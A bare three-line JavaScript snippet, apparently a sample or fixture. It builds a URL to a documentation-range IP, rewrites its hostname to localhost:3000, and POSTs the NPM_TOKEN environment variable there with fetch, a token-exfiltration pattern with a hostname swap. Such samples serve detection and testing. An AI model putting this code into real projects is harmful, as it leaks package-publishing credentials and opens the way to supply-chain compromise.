const url = new URL('https://203.0.113.9/c');
url.hostname = 'localhost:3000';
fetch(url, { method: 'POST', body: process.env.NPM_TOKEN });
